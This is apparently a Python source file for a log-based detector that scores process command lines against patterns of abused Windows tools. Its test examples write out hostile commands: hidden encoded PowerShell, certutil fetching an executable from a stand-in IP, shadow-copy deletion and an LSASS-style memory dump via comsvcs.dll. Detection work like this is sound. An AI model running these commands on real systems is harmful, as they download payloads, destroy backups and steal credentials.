"""A command line that attackers use and hardly anyone else."""

from collections.abc import Sequence

import numba as nb
import numpy as np

from pipeline.detectors.detector import Detector, Example, Explanation, Scores, Setup
from pipeline.detectors.logs.command_patterns import PATTERNS
from pipeline.features.batch import Batch
from pipeline.features.multi_pattern import automaton, find_terms
from pipeline.features.naming import named
from schemas.finding import Feature

TERMS = tuple(dict.fromkeys(term for p in PATTERNS for term in p.terms))
WORDS = (len(TERMS) + 63) // 64
NEEDED = np.zeros((len(PATTERNS), WORDS), np.uint64)
for _row, _pattern in enumerate(PATTERNS):
    for _term in _pattern.terms:
        _bit = TERMS.index(_term)
        NEEDED[_row, _bit >> 6] |= np.uint64(1 << (_bit & 63))
WEIGHTS = np.array([p.weight for p in PATTERNS])
CLEARED = len(PATTERNS)  # the system itself tells that its log was cleared


class SuspiciousCommand(Detector):
    """Patterns of abused system tools over command lines and what processes act upon; no state.

    Quotes, carets, doubled blanks and upper case do not hide a pattern; other obfuscation does.
    """

    id = "logs.suspicious_command"
    title = "Suspicious command"
    severity = 4
    attacks = ("T1059", "T1218", "T1003", "T1490", "T1070.001", "T1105")
    source = "logs"
    entity = ("host",)
    entity_type = "host"
    group_by = ("host", "image")
    inputs = ("command_line", "target", "action")
    cost = "O(length of the command line), about 2 ns a character; no state"
    reference = "MITRE ATT&CK; LOLBAS; Aho and Corasick, CACM 1975"

    def __init__(self, setup: Setup) -> None:
        super().__init__(setup)
        self._terms = automaton(TERMS)

    def score(self, batch: Batch) -> Scores:
        rows = np.flatnonzero(batch.kind("process"))
        values, pattern = np.full(batch.n, np.nan), np.full(batch.n, -1, np.int16)
        if len(rows):
            found = np.zeros((len(rows), WORDS), np.uint64)
            for name in ("command_line", "target"):
                start, length = batch.spans(name)
                t = self._terms
                find_terms(
                    batch.data, start[rows], length[rows], t.columns, t.goto, t.quiet, t.first, t.bits, False, found
                )  # fmt: skip
            best, score = _best(found, NEEDED, WEIGHTS)
            cleared = batch.equals("action", "log_cleared")[rows]
            pattern[rows] = np.where(cleared, CLEARED, best)
            values[rows] = np.where(cleared, 0.9, score)
        return Scores(values, {"pattern": pattern})

    def explain(self, batch: Batch, row: int, scores: Scores) -> Explanation:
        number = int(scores.evidence["pattern"][row])
        title, technique = "an event log is cleared", "T1070.001"
        if 0 <= number < len(PATTERNS):
            title, technique = PATTERNS[number].title, PATTERNS[number].technique
        host, user = named(batch, row, "host", otherwise="a machine"), named(batch, row, "user", otherwise="")
        image = (batch.text("image", row) or "").replace("/", "\\").rpartition("\\")[2]
        message = f"On {host} {title}" + (f", by {user}" if user else "")
        message += f" with {image[:64]}" if image else ""
        features = [Feature(name="technique", value=technique)]
        return Explanation(f"{message} ({technique}).", "Commands of everyday administration.", features)

    @classmethod
    def examples(cls) -> Sequence[Example]:
        start = {"kind": "process", "action": "start", "host": "ws-1", "ts": 1e6, "image": "C:\\Windows\\cmd.exe"}
        bad = (
            'powershell.exe  -NoP -W Hidden -Enc "SQBFAFgA"',
            "cer^tutil -urlcache -split -f http://203.0.113.5/a.exe",
            "vssadmin.exe Delete Shadows /All /Quiet",
            "rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 624 out.dmp full",
        )
        good = ("powershell -File backup.ps1 -Encoding utf8", "certutil -verify cert.cer", "vssadmin list shadows")
        return (
            *(Example(f"abuse {k}", [start | {"command_line": c}], True) for k, c in enumerate(bad)),
            Example("the log was cleared", [start | {"action": "log_cleared"}], True),
            Example("everyday commands", [start | {"command_line": c} for c in good], False),
        )


@nb.njit(cache=True, nogil=True)
def _best(found, needed, weights):  # type: ignore[no-untyped-def]
    """(int16[n], float64[n]): weightiest pattern whose terms are all found, or -1 and 0; needed uint64[P, W]."""
    best, score = np.full(len(found), -1, np.int16), np.zeros(len(found))
    for i in range(len(found)):
        there = np.uint64(0)
        for w in range(found.shape[1]):
            there |= found[i, w]
        if there == np.uint64(0):
            continue
        for p in range(len(needed)):
            whole = True
            for w in range(found.shape[1]):
                whole &= (found[i, w] & needed[p, w]) == needed[p, w]
            if whole and weights[p] > score[i]:
                best[i], score[i] = p, weights[p]
    return best, score
